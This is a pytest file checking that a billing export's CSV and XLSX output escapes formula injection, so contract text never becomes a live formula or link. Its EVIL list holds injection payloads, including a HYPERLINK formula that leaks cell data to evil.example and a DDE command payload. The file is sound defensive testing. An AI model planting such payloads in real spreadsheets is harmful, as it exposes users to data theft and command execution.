"""A text of a contract that a spreadsheet would run: no cell of an export is a formula, and amounts stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from gateway.documents.exports import HEAD, csv_bytes, rows, safe, xlsx_bytes

EVIL = [
    '=HYPERLINK("https://evil.example/?"&A1,"pay")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "|cmd",
    "%0A=1",
]


def made(text: str) -> dict:
    """A statement in which every text that a contract may choose is this one."""
    return {
        "contract": {"id": "impact60", "title": text},
        "payers": [
            {
                "organisation": "aalborg-kommune",
                "gln": "5799999008511",
                "order_number": text,
                "person_reference": text,
                "account": "5.58",
            }
        ],
        "windows": [
            {
                "window": text,
                "on_documents": {"measure": text, "band": "from_10_to_25"},
                "from_week": "2018-W40",
                "to_week": "2018-W52",
                "state": "released",
                "document": {"jti": "urn:uuid:1", "jwt_sha256": "a", "contract_version": 1, "rules_sha256": "b"},
                "lines": [
                    {
                        "tariff": text,
                        "kind": "correction",
                        "unit": "week",
                        "quantity": -3,
                        "amount_minor": -150_005,
                        "state": "released",
                        "shares": [{"payer": "aalborg-kommune", "amount_minor": -150_005}],
                    }
                ],
            }
        ],
    }


@pytest.mark.parametrize("text", EVIL)
def test_no_text_becomes_a_formula_in_csv(text: str):
    body = csv_bytes(HEAD, rows(made(text))).decode("utf-8-sig")
    [_, row] = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    cells = dict(zip(HEAD, row, strict=True))
    for name in ("window", "tariff", "order_number", "person_reference"):
        assert cells[name] == f"'{text}"
    assert cells["amount"] == "-1500,05"  # a number, not a formula
    assert cells["amount_minor"] == "-150005"


@pytest.mark.parametrize("text", EVIL)
def test_no_text_becomes_a_formula_or_a_link_in_xlsx(text: str):
    data = xlsx_bytes(HEAD, rows(made(text)), title=text, on=date(2026, 1, 2))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            assert b"<f>" not in content, name
            assert b"<hyperlink" not in content, name
            assert b"externalLink" not in content, name
    sheet = load_workbook(io.BytesIO(data)).active
    cells = dict(zip(HEAD, sheet[2], strict=True))
    assert cells["tariff"].data_type == "s"
    assert cells["tariff"].value.startswith("'")
    assert cells["amount"].data_type == "n"
    assert Decimal(str(cells["amount"].value)) == Decimal("-1500.05")
    assert cells["quantity"].value == -3


def test_what_is_no_formula_is_left_as_it_is():
    """Positive control: the mark is a choice, not a habit."""
    for text in ("weeks_in_work_or_education", "2019H1", "Jobcenter, afregning", "a=b", ""):
        assert safe(text) == text


def test_an_amount_that_a_spreadsheet_would_round_is_refused():
    statement = made("x")
    statement["windows"][0]["lines"][0]["amount_minor"] = 10**15
    with pytest.raises(ValueError, match="round"):
        rows(statement)
